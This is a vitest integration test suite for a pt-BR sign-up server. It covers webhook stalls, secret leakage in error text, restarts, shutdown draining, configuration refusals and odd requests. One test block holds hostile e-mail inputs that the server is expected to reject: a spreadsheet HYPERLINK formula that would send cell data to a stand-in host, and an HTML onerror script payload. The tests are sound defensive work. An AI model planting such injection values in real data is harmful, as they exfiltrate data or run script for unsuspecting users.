import { spawn } from "node:child_process";
import { once } from "node:events";
import { createServer as createHttpServer, request as httpRequest } from "node:http";
import { connect, type AddressInfo, type Socket } from "node:net";
import { mkdtemp, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { freePort, SERVE_COMMAND, serveEnv, startApp, type RunningApp } from "../harness/app-server";
import { solveQuestion } from "../harness/question-solver";
import {
  afterMinimumTime,
  pageFields,
  pageTokens,
  postSignup,
  signUp as send,
  type SignupAnswer,
} from "../harness/signup-client";
import { startRedis } from "../harness/real-servers";
import { WEBHOOK_PATH } from "../harness/stand-in";
import { accepts, until, waitForOk } from "../harness/wait";
import { BotTrap, FORM_MAX_AGE_MS, MIN_SUBMIT_MS } from "~/signup/bot-trap.server";
import { SignedTokens } from "~/signup/signed-tokens.server";
import { builtServerSuite, SUITE_SECRET, withCaptcha } from "./suite";

/**
 * Faults met by the built server started as `npm start` starts it (remix-serve,
 * its fetch polyfill, its express pipeline): a bad webhook or siteverify, a
 * restart, a stop, odd requests. Module-level tests cannot find these: vitest
 * runs with Node's own fetch.
 */

const FAILURE_TITLE = "Falha ao enviar";
const FALLBACK = "Não foi possível enviar seu cadastro agora. Tente novamente.";

const { standIn, start, visitor } = builtServerSuite();

/** A sign-up as the enhanced form sends it, answered as JSON. */
function signUp(app: RunningApp, email: string, extra: Record<string, string> = {}) {
  return send(app.origin, { ...visitor(), email, hcaptchaToken: `token-${email}`, ...extra });
}

/** A raw POST of the form whose body is sent in pieces; `answer` is all the server wrote before closing. */
function openUpload(app: RunningApp, length: number) {
  const socket = connect(Number(new URL(app.origin).port), "127.0.0.1");
  socket.write(
    "POST /?index&_data=routes%2F_index HTTP/1.1\r\nHost: 127.0.0.1\r\n" +
      `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${length}\r\nConnection: close\r\n\r\n`,
  );
  let received = "";
  socket.on("data", (chunk) => (received += chunk));
  const answer = new Promise<string>((resolve) => {
    socket.once("close", () => resolve(received));
    socket.once("error", () => undefined);
  });
  const send = (text: string) =>
    new Promise<void>((resolve) => (socket.destroyed ? resolve() : socket.write(text, () => resolve())));
  return { send, answer };
}

const sortedRelays = () => standIn.relayedEmails().sort();

/** The visitor's answer to a relay that could not finish: 502, 'Falha ao enviar' and the fallback text. */
function expectFallbackFailure(answer: SignupAnswer) {
  expect(answer.status).toBe(502);
  expect(answer.result.notice).toEqual({ title: FAILURE_TITLE, description: FALLBACK });
}

/** A server whose webhook takes `delayMs` to answer, with one sign-up waiting on it, stopped (SIGTERM) meanwhile. */
async function stopWhileRelaying(delayMs: number, email = "ana@exemplo.com.br") {
  const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
  standIn.webhook = { status: 200, text: "ok", delayMs };
  const pending = signUp(app, email);
  await standIn.arrived("webhook");
  const exitCode = app.stop();
  return { app, pending, exitCode };
}

describe("an outgoing call that stalls never takes the server down", () => {
  it("a webhook that never answers gets its visitor 'Falha ao enviar' while ten sign-ups during the stall succeed", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    standIn.webhook = { status: 200, delayMs: 60_000 };
    const stalled = signUp(app, "lenta@exemplo.com.br");
    await standIn.arrived("webhook");
    standIn.webhook = { status: 200, text: "ok", delayMs: 800 };
    const others = Array.from({ length: 10 }, (_, index) => signUp(app, `pessoa${index}@exemplo.com.br`));
    for (const answer of await Promise.all(others)) expect(answer.status).toBe(200);

    const stalledAnswer = await stalled;
    expectFallbackFailure(stalledAnswer);
    expect(stalledAnswer.result.email).toBe("lenta@exemplo.com.br");

    expect((await fetch(`${app.origin}/healthz`)).status).toBe(200);
    expect((await signUp(app, "depois@exemplo.com.br")).status).toBe(200);
    expect(app.process.exitCode).toBeNull();
    expect(sortedRelays()).toEqual(
      [
        "depois@exemplo.com.br",
        "lenta@exemplo.com.br",
        ...Array.from({ length: 10 }, (_, i) => `pessoa${i}@exemplo.com.br`),
      ].sort(),
    );
    expect(app.output()).not.toContain("unexpected-error");
  });

  it("a siteverify that never answers gets its visitor 'Falha ao enviar' and nothing relayed, while others sign up", async () => {
    const app = await start(withCaptcha(standIn));
    standIn.siteverify = { success: true, delayMs: 60_000 };
    const stalled = signUp(app, "lenta@exemplo.com.br");
    await standIn.arrived("siteverify");
    standIn.siteverify = { success: true, delayMs: 800 };
    const others = Array.from({ length: 5 }, (_, index) => signUp(app, `pessoa${index}@exemplo.com.br`));
    for (const answer of await Promise.all(others)) expect(answer.status).toBe(200);

    expectFallbackFailure(await stalled);
    expect((await fetch(`${app.origin}/healthz`)).status).toBe(200);
    expect(app.process.exitCode).toBeNull();
    expect(sortedRelays()).toEqual(Array.from({ length: 5 }, (_, i) => `pessoa${i}@exemplo.com.br`));
  });

  it.each([
    ["resets the connection", { status: 200, reset: true }],
    ["answers 10 MB of error", { status: 500, bodyBytes: 10 * 1024 * 1024 }],
    ["answers slowly, past its 5 s timeout", { status: 200, delayMs: 5_500 }],
  ])("a webhook that %s gets 'Falha ao enviar' and the server keeps serving", async (_case, behaviour) => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    standIn.webhook = behaviour;
    const answer = await signUp(app, "ana@exemplo.com.br");
    expect(answer.status).toBe(502);
    expect(answer.result.notice.title).toBe(FAILURE_TITLE);
    expect(answer.result.notice.description.length).toBeLessThanOrEqual(260);
    standIn.webhook = { status: 200, text: "ok" };
    expect((await signUp(app, "bia@exemplo.com.br")).status).toBe(200);
    expect((await fetch(`${app.origin}/healthz`)).status).toBe(200);
  });
});

describe("a webhook's 2xx is a delivery the moment its status line arrives", () => {
  it("a 200 whose body trickles for 7 s gives 'Cadastro realizado!' and one POST", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    standIn.webhook = { status: 200, bodyFault: { trickleMs: 7_000 } };
    const answer = await signUp(app, "lenta@exemplo.com.br");
    expect([answer.status, answer.result.notice.title]).toEqual([200, "Cadastro realizado!"]);
    expect(standIn.received.webhook).toHaveLength(1);
  });
});

describe("the webhook's error text never shows where the webhook is", () => {
  const secretPath = WEBHOOK_PATH.slice(1); // "hooks/c0ffee-secret-path"

  it.each([
    [
      "n8n's 404 for a workflow switched off, naming its path",
      404,
      JSON.stringify({
        code: 404,
        message: 'The requested webhook "POST c0ffee-secret-path" is not registered.',
        hint: "The workflow must be active for a production URL to run successfully.",
        stacktrace: "Error: The requested webhook is not registered.",
      }),
      "Webhook retornou 404 Not Found",
    ],
    [
      "n8n, path with a leading slash",
      404,
      JSON.stringify({ code: 404, message: `The requested webhook "POST /${secretPath}" is not registered.` }),
      "Webhook retornou 404 Not Found",
    ],
    [
      "a URL-encoded path",
      404,
      `Unknown webhook ${encodeURIComponent("/" + secretPath)}`,
      "Webhook retornou 404 Not Found",
    ],
    [
      "Make, naming the whole URL",
      410,
      `{"error":"There is no scenario listening for this webhook: ${"{origin}"}${WEBHOOK_PATH}?key=1"}`,
      "Webhook retornou 410 Gone",
    ],
    [
      "ordinary words, the path's shared word included",
      503,
      JSON.stringify({ message: "Incoming hooks are paused: the webhook will be back soon" }),
      "Webhook retornou 503 Service Unavailable: Incoming hooks are paused: the webhook will be back soon",
    ],
    [
      "an nginx 502 page",
      502,
      "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n<center><h1>502 Bad Gateway</h1></center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n",
      "Webhook retornou 502 Bad Gateway: 502 Bad Gateway",
    ],
  ])("%s", async (_case, status, text, description) => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    standIn.webhook = { status, text: text.replace("{origin}", standIn.origin) };
    const answer = await signUp(app, "ana@exemplo.com.br");
    expect(answer.status).toBe(502);
    expect(answer.result.notice).toEqual({ title: FAILURE_TITLE, description });
    const { port } = new URL(standIn.origin);
    for (const secret of ["c0ffee", "secret", "path", "127.0.0.1", port]) {
      expect(answer.result.notice.description).not.toContain(secret);
    }
  });
});

describe("the webhook's query string is secret whole", () => {
  it("a bare key in the query, and the path's words, never show in 'Falha ao enviar'", async () => {
    const app = await start({ WEBHOOK_URL: `${standIn.webhookUrl}?SECRETKEY4fa9&token=e0c7` });
    standIn.webhook = { status: 404, text: "Webhook SECRETKEY4fa9 unknown: check the token e0c7 of your hooks" };
    const answer = await signUp(app, "ana@exemplo.com.br");
    expect(answer.result.notice).toEqual({
      title: FAILURE_TITLE,
      description: "Webhook retornou 404 Not Found",
    });
  });
});

describe("restarts and stale pages", () => {
  it("a page rendered before a restart still signs up after it, with the secret kept beside the data", async () => {
    const data = await mkdtemp(join(tmpdir(), "restart-"));
    const env = { WEBHOOK_URL: standIn.webhookUrl, SIGNUPS_FILE: join(data, "signups.jsonl"), SIGNUP_SECRET: "" };
    const before = await start(env);
    const page = await pageTokens(before.origin);
    await before.stop();

    const after = await start(env);
    await afterMinimumTime(page);
    const answer = await send(after.origin, { ...pageFields(page), email: "ana@exemplo.com.br", hcaptchaToken: "t-1" });
    expect(answer.status).toBe(200);
    expect(standIn.relayedEmails()).toEqual(["ana@exemplo.com.br"]);
  });

  it("a tab opened before SIGNUP_SECRET is rotated signs up on its first press, with the old one as SIGNUP_SECRET_PREVIOUS", async () => {
    // Questions outlive a restart only in a Redis (without it, a restart expires them whatever the secret).
    const redis = await startRedis();
    try {
      const [oldSecret, newSecret] = ["o".repeat(32), "n".repeat(32)];
      const env = { WEBHOOK_URL: standIn.webhookUrl, REDIS_URL: redis.url };
      const before = await start({ ...env, SIGNUP_SECRET: oldSecret });
      const page = await pageTokens(before.origin);
      await before.stop();

      const after = await start({ ...env, SIGNUP_SECRET: newSecret, SIGNUP_SECRET_PREVIOUS: oldSecret });
      await afterMinimumTime(page);
      const answer = await send(after.origin, {
        ...pageFields(page),
        email: "ana@exemplo.com.br",
        challengeToken: page.question.token,
        challengeAnswer: String(solveQuestion(page.question.text)),
      });
      expect([answer.status, answer.result.notice.title]).toEqual([200, "Cadastro realizado!"]);
      expect(standIn.relayedEmails()).toEqual(["ana@exemplo.com.br"]);
    } finally {
      await redis.stop();
    }
  });

  it("a time no secret of ours signed is never a silent success, and earns nothing a script could use", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    const fields = {
      ...visitor(),
      from__confirm: "1795484840395.signed-by-another-secret-000000000000000000000",
      email: "ana@exemplo.com.br",
      hcaptchaToken: "t-1",
    };
    const { status, result } = await send(app.origin, fields);
    expect(status).toBe(400);
    expect(result.notice.title).toBe("Página desatualizada");
    expect([result.botTrap, result.question]).toEqual([undefined, undefined]);
    // Without JavaScript the answer is the page again, with the page's own fields (good only after a person's time).
    const page = await (await postSignup(app.origin, fields)).text();
    expect(page).toContain("Recarregue a página e envie de novo.");
    expect(standIn.received.webhook).toHaveLength(0);
  });

  it("a page left open over two hours is told so, and the fresh fields it gets back work at once", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    const old = new BotTrap(new SignedTokens(SUITE_SECRET)).fields(Date.now() - FORM_MAX_AGE_MS - MIN_SUBMIT_MS - 1);
    const fields = { ...pageFields({ botTrap: old }), email: "ana@exemplo.com.br", hcaptchaToken: "t-1" };
    const { status, result } = await send(app.origin, fields);
    expect(status).toBe(400);
    expect(result.notice).toEqual({
      title: "Página desatualizada",
      description:
        "Esta página ficou aberta por muito tempo. Atualizamos o formulário: confira seu e-mail e envie de novo (ou recarregue a página).",
    });
    expect(result.email).toBe("ana@exemplo.com.br");
    const again = await send(app.origin, { ...fields, ...pageFields({ botTrap: result.botTrap! }) });
    expect(again.status).toBe(200);
    expect(standIn.relayedEmails()).toEqual(["ana@exemplo.com.br"]);
  });

  it("without JavaScript an unanswered question is asked for by name, not as a captcha", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    const fields = { ...visitor(), email: "ana@exemplo.com.br", challengeToken: "x.1.y", challengeAnswer: "" };
    const response = await postSignup(app.origin, fields);
    expect(response.status).toBe(400);
    const html = await response.text();
    expect(html).toContain("Valide o captcha");
    expect(html).toContain("Responda à pergunta de verificação acima para concluir o cadastro.");
    expect(html).not.toContain("Confirme que você não é um robô resolvendo o captcha.");
  });
});

describe("e-mails that must not pass, against the built server", () => {
  it("the NFD and NFC spellings of one address, sent with one captcha token, are one sign-up relayed in NFC", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    const decomposed = "joa\u0303o@exemplo.com.br";
    const composed = "jo\u00e3o@exemplo.com.br";
    expect((await signUp(app, decomposed, { hcaptchaToken: "t-joao" })).status).toBe(200);
    expect((await signUp(app, composed, { hcaptchaToken: "t-joao" })).status).toBe(200);
    expect(standIn.relayedEmails()).toEqual([composed]);
  });

  it.each([
    '=HYPERLINK("http://x/?d="&A1,"Clique")@exemplo.com.br',
    "<img/src=x/onerror=alert(1)>@exemplo.com.br",
    "ana\u034F@exemplo.com.br",
    "ana\u3164@exemplo.com.br",
  ])("%j is refused with 'E-mail inválido' and never reaches the automation", async (address) => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    const answer = await signUp(app, address);
    expect(answer.status).toBe(400);
    expect(answer.result.notice).toEqual({
      title: "E-mail inválido",
      description: "Por favor, informe um e-mail válido.",
    });
    expect(answer.result.email).toBe(address);
    expect(standIn.received.webhook).toHaveLength(0);
  });
});

describe("stopping", () => {
  it("SIGTERM lets a sign-up in flight finish and be answered, then exits 0", async () => {
    const { pending, exitCode } = await stopWhileRelaying(4_000);
    const answer = await pending;
    expect(answer.status).toBe(200);
    expect(await exitCode).toBe(0);
  });

  it("a second SIGTERM during the drain does not cut it short", async () => {
    const { app, pending, exitCode } = await stopWhileRelaying(3_000, "paciente@exemplo.com.br");
    // The first signal is handled once the port stops taking new connections.
    await until(async () => !(await accepts(Number(new URL(app.origin).port))), { what: "the listener closed" });
    app.process.kill("SIGTERM");
    expect((await pending).status).toBe(200);
    expect(await exitCode).toBe(0);
  });

  it("a webhook slower than any stop could wait for is timed out and answered before the process exits", async () => {
    const { pending, exitCode } = await stopWhileRelaying(9_500);
    expectFallbackFailure(await pending);
    expect(await exitCode).toBe(0);
  });

  it("a visitor still uploading when a stop begins is not waited for: nothing is relayed, so a retry cannot relay twice", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    standIn.webhook = { status: 200, text: "ok", delayMs: 2_000 };
    const body = new URLSearchParams({
      ...visitor(),
      email: "lenta@exemplo.com.br",
      hcaptchaToken: "P1_slow-upload",
    }).toString();
    const upload = openUpload(app, body.length);
    await upload.send(body.slice(0, 10));
    const exitCode = app.stop();
    // The stop counts no sign-up in flight: the upload was never admitted, so nothing waits for it.
    await app.printed(/"event":"shutdown","signal":"SIGTERM","signupsInFlight":0/);
    expect(await exitCode).toBe(0);
    // The rest arrives only once the process has exited.
    await upload.send(body.slice(10));
    const answer = await upload.answer;
    expect(answer).not.toMatch(/^HTTP\/1\.1 200/);
    expect(standIn.received.webhook).toHaveLength(0);
  });

  it("a body that stalls is answered 408 and not waited for", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    const upload = openUpload(app, 100);
    await upload.send("email=ana");
    expect(await upload.answer).toMatch(/^HTTP\/1\.1 408/);
    expect(standIn.received.webhook).toHaveLength(0);
  }, 30_000);

  it("refuses at start-up, in one line, several instances that could not sign forms alike", async () => {
    await expect(startApp({ REDIS_URL: "redis://127.0.0.1:6379", SIGNUP_SECRET: "" })).rejects.toThrowError(
      /exited with 1:\nInvalid configuration: SIGNUP_SECRET must be set when REDIS_URL is/,
    );
  });
});

describe("bad settings stop start-up with one line", () => {
  /** What start-up printed besides warnings and JSON log lines, once it exited. */
  async function refusal(env: Record<string, string>): Promise<string[]> {
    const failure = await startApp({ SIGNUP_SECRET: SUITE_SECRET, ...env }).then(
      async (app) => (await app.stop(), new Error("it started")),
      (error: Error) => error,
    );
    return failure.message.split("\n").filter((line) => line && !/^(\[config\] warning:|\{)/.test(line));
  }

  /** Start-up printed exactly the exit line and `Invalid configuration: {reason}`. */
  async function expectRefused(env: Record<string, string>, reason: string) {
    expect(await refusal(env)).toEqual(["app exited with 1:", `Invalid configuration: ${reason}`]);
  }

  it("a REDIS_URL naming a database Redis refuses", async () => {
    const redis = await startRedis();
    try {
      await expectRefused(
        { REDIS_URL: `${redis.url}/99` },
        "REDIS_URL names database 99, which Redis refuses (ERR DB index is out of range)",
      );
    } finally {
      await redis.stop();
    }
  });

  it("a REDIS_URL whose credentials Redis refuses (a wrong password, or none); the right one starts", async () => {
    const redis = await startRedis({ options: ["--requirepass", "senha-certa"] });
    const withPassword = (password: string) => redis.url.replace("redis://", `redis://:${password}@`);
    const credentialsRefused = (why: string) =>
      `Redis refuses REDIS_URL's credentials (${why}); put the user and password Redis expects in it: redis://user:password@host:port`;
    try {
      await expectRefused(
        { REDIS_URL: withPassword("senha-errada") },
        credentialsRefused("WRONGPASS invalid username-password pair or user is disabled."),
      );
      await expectRefused({ REDIS_URL: redis.url }, credentialsRefused("NOAUTH Authentication required."));
      const app = await start({ REDIS_URL: withPassword("senha-certa") });
      expect(await (await fetch(`${app.origin}/readyz`)).text()).toBe("ready");
    } finally {
      await redis.stop();
    }
  });

  it.each([
    [
      "a WEBHOOK_URL on port 0",
      { WEBHOOK_URL: "http://127.0.0.1:0/webhook/x" },
      "WEBHOOK_URL uses port 0, which nothing can be called on",
    ],
    [
      "a SIGNUPS_FILE under /proc",
      { SIGNUPS_FILE: "/proc/prevly/signups.jsonl" },
      "SIGNUPS_FILE is under /proc or /sys, which keep nothing: choose a folder on a disk or volume",
    ],
  ])("%s", async (_case, env, reason) => {
    await expectRefused(env, reason);
  });

  it("a SIGNUPS_FILE that is not a regular file: /dev/null, a named pipe", async () => {
    const notRegular = (path: string) =>
      `SIGNUPS_FILE is not a regular file (${path}); name a file on a disk or volume`;
    await expectRefused({ SIGNUPS_FILE: "/dev/null" }, notRegular("/dev/null"));
    const pipe = join(await mkdtemp(join(tmpdir(), "pipe-")), "signups.jsonl");
    await once(spawn("mkfifo", [pipe]), "exit");
    await expectRefused({ SIGNUPS_FILE: pipe }, notRegular(pipe));
  });

  it("a SIGNUPS_FILE whose folder cannot be made within a few seconds", async () => {
    // Through a link into /proc, where making a folder never ends.
    const folder = await mkdtemp(join(tmpdir(), "slow-disk-"));
    await symlink("/proc", join(folder, "kernel"));
    const file = join(folder, "kernel", "prevly", "signups.jsonl");
    await expectRefused(
      { SIGNUPS_FILE: file },
      `SIGNUPS_FILE's folder ${join(folder, "kernel", "prevly")} could not be made within 3 s`,
    );
  });
});

describe("a visitor without JavaScript who answers again at once", () => {
  /** The value of a form field in the page the server sent. */
  function fieldValue(html: string, name: string): string {
    const input = new RegExp(`<input[^>]*name="${name}"[^>]*>`).exec(html)?.[0] ?? "";
    return /value="([^"]*)"/.exec(input)?.[1]?.replace(/&amp;/g, "&") ?? "";
  }

  it("is signed up, not taken for a bot, when the new question is answered within the minimum time", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    const page = await pageTokens(app.origin);
    await afterMinimumTime(page);
    const wrong = await postSignup(app.origin, {
      ...pageFields(page),
      email: "rapida@exemplo.com.br",
      challengeToken: page.question!.token,
      challengeAnswer: "99",
    });
    const html = await wrong.text();
    expect(wrong.status).toBe(400);
    expect(html).toContain("Resposta incorreta");
    const question = /Quanto é [^?]+\?/.exec(html)![0];
    // Pressed again at once, with what the page now holds.
    const again = await postSignup(app.origin, {
      name__confirm: "",
      from__confirm: fieldValue(html, "from__confirm"),
      email: fieldValue(html, "email"),
      challengeToken: fieldValue(html, "challengeToken"),
      challengeAnswer: String(solveQuestion(question)),
    });
    expect(again.status).toBe(200);
    expect(await again.text()).toContain("Cadastro realizado!");
    expect(standIn.relayedEmails()).toEqual(["rapida@exemplo.com.br"]);
  });
});

describe("a log that cannot be written any more", () => {
  /** 20 probes and a sign-up: all must be answered as usual. */
  async function stillServes(origin: string): Promise<number[]> {
    const statuses: number[] = [];
    for (let index = 0; index < 20; index++) statuses.push((await fetch(`${origin}/healthz`)).status);
    statuses.push((await send(origin, { ...visitor(), email: "log@exemplo.com.br", hcaptchaToken: "P1_log" })).status);
    return statuses;
  }

  it("its reader gone (EPIPE): the server loses log lines, not its answers", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    app.process.stdout!.destroy();
    app.process.stderr!.destroy();
    expect(await stillServes(app.origin)).toEqual([...Array<number>(20).fill(200), 200]);
    expect(app.process.exitCode).toBeNull();
    expect(standIn.received.webhook).toHaveLength(1);
  });

  it("its disk full (EFBIG): the server loses log lines, not its answers", async () => {
    const folder = await mkdtemp(join(tmpdir(), "full-log-"));
    const port = await freePort();
    const [node, ...args] = SERVE_COMMAND;
    // The log may not grow at all: its first line already fails.
    const child = spawn("bash", ["-c", `ulimit -f 0 && exec "$@" > "${folder}/app.log" 2>&1`, "bash", node!, ...args], {
      env: { ...serveEnv(port), WEBHOOK_URL: standIn.webhookUrl, SIGNUP_SECRET: SUITE_SECRET },
      stdio: "ignore",
    });
    try {
      const origin = `http://127.0.0.1:${port}`;
      await waitForOk(`${origin}/healthz`);
      expect(await stillServes(origin)).toEqual([...Array<number>(20).fill(200), 200]);
      expect(child.exitCode).toBeNull();
    } finally {
      child.kill("SIGTERM");
    }
  });
});

describe("how the server is started and odd requests", () => {
  function rawRequest(app: RunningApp, method: string): Promise<{ status: number; allow: string | undefined }> {
    return new Promise((resolve, reject) => {
      const request = httpRequest(`${app.origin}/`, { method }, (response) => {
        response.resume();
        resolve({ status: response.statusCode ?? 0, allow: response.headers.allow });
      });
      request.on("error", reject);
      request.end();
    });
  }

  it.each(["TRACE", "PUT", "DELETE", "PROPFIND"])("%s / is answered 405 without a stack trace", async (method) => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    expect(await rawRequest(app, method)).toEqual({ status: 405, allow: "GET, HEAD, POST" });
    expect((await fetch(`${app.origin}/healthz`)).status).toBe(200);
    expect(app.output()).not.toMatch(/\n\s+at /);
  });

  it("works when started from another working directory", async () => {
    const elsewhere = await mkdtemp(join(tmpdir(), "cwd-"));
    await writeFile(join(elsewhere, "package.json"), "{}");
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl }, { cwd: elsewhere });
    const page = await fetch(`${app.origin}/`);
    expect(page.status).toBe(200);
    const html = await page.text();
    const script = /"(\/build\/[^"]+\.js)"/.exec(html)?.[1];
    expect(script).toBeTruthy();
    expect((await fetch(`${app.origin}${script}`)).status).toBe(200);
    expect((await fetch(`${app.origin}/robots.txt`)).status).toBe(200);
  });

  it.each([
    ["POST", "/healthz", 405, "Método não permitido."],
    ["POST", "/readyz?_data=routes%2Freadyz", 405, "Método não permitido."],
    ["POST", "/?_data=root", 405, "Método não permitido."],
    ["GET", "/?_data=routes%2Fnope", 400, "Requisição inválida."],
    ["GET", "/?_data=routes%2F%24", 400, "Requisição inválida."],
    ["POST", "/?index&_data=root", 400, "Requisição inválida."],
    ["GET", "/?_data=root", 400, "Requisição inválida."],
  ])("Remix's own answer to %s %s becomes a short pt-BR refusal", async (method, path, status, text) => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    const response = await fetch(`${app.origin}${path}`, { method });
    expect(response.status).toBe(status);
    expect(response.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(await response.text()).toBe(text);
  });

  it("the page's own data requests still reach Remix", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    const page = await fetch(`${app.origin}/?_data=routes%2F_index`);
    expect(page.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(await page.json()).toMatchObject({ publicUrl: null, botTrap: expect.any(Object) });
    expect((await fetch(`${app.origin}/planos?_data=routes%2F%24`)).status).toBe(404);
  });

  it("an unknown path is answered with the 404 page and logged with its path", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    const response = await fetch(`${app.origin}/planos/antigos?utm_source=x`);
    expect(response.status).toBe(404);
    expect(await response.text()).toContain("Oops! Page not found");
    await app.printed(/"event":"not-found","path":"\/planos\/antigos"/);
  });

  it("a port already in use stops start-up with exit code 1 and one line naming it", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    const { port } = new URL(app.origin);
    const [node, ...args] = SERVE_COMMAND;
    const second = spawn(node!, args, {
      env: { ...serveEnv(port), SIGNUP_SECRET: SUITE_SECRET },
      stdio: ["ignore", "ignore", "pipe"],
    });
    let errors = "";
    second.stderr!.on("data", (chunk) => (errors += chunk));
    const [code] = (await once(second, "exit")) as [number];
    expect(code).toBe(1);
    expect(errors.trim().split("\n")).toContain(
      `Cannot listen on port ${port}: it is already in use. Stop what listens there or set PORT to a free port.`,
    );
    expect((await fetch(`${app.origin}/healthz`)).status).toBe(200);
  });

  it("an empty PORT means unset: it listens on 3000", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl, PORT: "" }, { expectPort: 3000 });
    expect(app.origin).toBe("http://127.0.0.1:3000");
    expect(app.output()).toContain('"event":"listening","port":3000');
  });
});

describe("behind a balancer other than the shipped nginx", () => {
  /** GET `path` on an open connection, resolving with the whole answer (its body chunked or of a Content-Length). */
  function exchange(socket: Socket, path: string): Promise<string> {
    return new Promise((resolve, reject) => {
      let answer = "";
      const closed = () => reject(new Error(`the connection closed before ${path} was answered`));
      const read = (chunk: Buffer) => {
        answer += chunk.toString("latin1");
        const end = answer.indexOf("\r\n\r\n");
        const length = /^content-length: *(\d+)/im.exec(answer)?.[1];
        const whole = length ? answer.length >= end + 4 + Number(length) : answer.endsWith("\r\n0\r\n\r\n");
        if (end === -1 || !whole) return;
        socket.off("data", read).off("close", closed);
        resolve(answer);
      };
      socket.on("data", read).once("close", closed);
      socket.write(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`);
    });
  }

  const open = async (port: number) => {
    const socket = connect(port, "127.0.0.1");
    await once(socket, "connect");
    return socket;
  };

  it("an idle connection outlives Node's own 5 s keep-alive, which AWS's and Google's balancers outlast: the balancer closes first, and its next request is answered", async () => {
    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
    const appConnection = await open(Number(new URL(app.origin).port));
    // What the apps did before: a bare node:http server, whose close of an idle connection is the event awaited.
    const bare = createHttpServer((_request, response) => response.end("ok"));
    await new Promise<void>((resolve) => bare.listen(0, "127.0.0.1", resolve));
    try {
      const first = await exchange(appConnection, "/healthz");
      const bareConnection = await open((bare.address() as AddressInfo).port);
      await exchange(bareConnection, "/");
      await once(bareConnection, "close");

      expect(appConnection.readyState).toBe("open");
      expect(await exchange(appConnection, "/healthz")).toMatch(/^HTTP\/1\.1 200 OK\r\n[\s\S]*\r\n\r\n(2\r\n)?ok/);
      // What the balancer is told: Node writes its keep-alive into each answer.
      expect(first).toMatch(/^keep-alive: timeout=620\r$/im);
    } finally {
      appConnection.destroy();
      await new Promise((resolve) => bare.close(resolve));
    }
  });
});
